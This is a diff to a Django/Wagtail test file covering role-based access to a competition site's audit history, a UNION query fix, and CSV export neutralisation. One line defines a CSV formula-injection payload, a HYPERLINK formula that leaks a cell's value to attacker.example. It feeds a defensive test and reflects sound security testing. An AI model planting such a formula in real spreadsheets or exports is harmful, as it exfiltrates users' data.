@@ -40,13 +40,6 @@ def manager_of(competition, username):
     return user
 
 
-from tests.helpers import site_history_unsupported  # noqa: E402
-
-NEEDS_SITE_HISTORY = pytest.mark.skipif(
-    site_history_unsupported(), reason="Wagtail 8.0's site history fails on Django 6.1 with SQLite (upstream)"
-)
-
-
 @pytest.fixture
 def world():
     """Hanoi and HCMC, each with an agency, its editor, a manager of that competition only, a
@@ -114,7 +107,6 @@ HCMC_ONLY = ["Reason only hcmc may read", "juror.hcmc", "editor.hcmc", "HCMC-DNV
 HANOI_ONLY = ["Reason only hanoi may read", "juror.hanoi", "editor.hanoi", "HN-OFFICE agency"]
 
 
-@NEEDS_SITE_HISTORY
 def test_a_manager_of_one_competition_reads_only_its_entries(client, world):
     shown = site_history(client, world["manager.hanoi"])
 
@@ -122,14 +114,12 @@ def test_a_manager_of_one_competition_reads_only_its_entries(client, world):
     assert [text for text in HCMC_ONLY if text in shown] == []
 
 
-@NEEDS_SITE_HISTORY
 def test_the_superuser_reads_every_entry(client, world):
     shown = site_history(client, world["root"])
 
     assert [text for text in HANOI_ONLY + HCMC_ONLY if text not in shown] == []
 
 
-@NEEDS_SITE_HISTORY
 def test_an_editor_reads_their_agencys_entries_but_never_who_scored_them(client, world):
     shown = site_history(client, world["editor.hcmc"])
 
@@ -138,13 +128,34 @@ def test_an_editor_reads_their_agencys_entries_but_never_who_scored_them(client,
     assert [text for text in HANOI_ONLY if text in shown] == []
 
 
-@NEEDS_SITE_HISTORY
 def test_a_reviewer_reads_only_what_they_did(client, world):
     shown = site_history(client, world["juror.hcmc"])
 
     assert "Jury score recorded" in shown
     assert "Reason only hcmc may read" not in shown and "editor.hcmc" not in shown
     assert [text for text in HANOI_ONLY if text in shown] == []
+
+
+def test_the_site_history_joins_its_log_models_in_one_union(rf, world):
+    """Wagtail 8.0 nests one UNION in the next; with our third log model the inner one keeps an
+    ORDER BY that SQLite refuses on Django 6.1. One flat UNION ALL of the three reads the same."""
+    from wagtail.admin.views.reports.audit_logging import LogEntriesView
+    from wagtail.log_actions import registry
+
+    log(Group.objects.create(name="Auditors"), "wagtail.create", user=world["root"])  # Wagtail's model log
+    request = rf.get(SITE_HISTORY)
+    request.user = world["root"]
+    view = LogEntriesView()
+    view.setup(request)
+    view.filters = None
+    query = view.get_filtered_queryset().query
+
+    assert len(registry.get_log_entry_models()) == 3
+    assert query.combinator == "union" and query.combinator_all
+    assert [part.model for part in query.combined_queries] == view.log_models
+    assert [part.combinator for part in query.combined_queries] == [None, None, None]
+    entries = {entry.__class__.__name__ for entry in view.decorate_paginated_queryset(view.get_filtered_queryset())}
+    assert entries == {"CompetitionLogEntry", "ModelLogEntry", "PageLogEntry"}
 
 
 def test_a_submission_history_hides_the_reviewers_from_the_agency(client, world):
@@ -185,7 +196,6 @@ def test_existing_entries_move_to_the_competitions_log(world):
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
-@NEEDS_SITE_HISTORY
 def test_no_cell_of_the_site_history_csv_is_a_formula(client, world):
     import csv
 
@@ -223,7 +233,6 @@ def test_csv_rows_split_across_chunks_are_neutralised_whole():
     assert b"".join(neutralise_csv(chunks)).decode() == ("id,'=name\r\n1,\"'=multi\nline\",-2\r\n2,'@x\r\n3,'+tail\r\n")
 
 
-@NEEDS_SITE_HISTORY
 def test_the_site_history_query_count_does_not_grow(client, world, django_assert_max_num_queries):
     manager = world["manager.hcmc"]
     adjustment = Adjustment.objects.get(reason="Reason only hcmc may read")
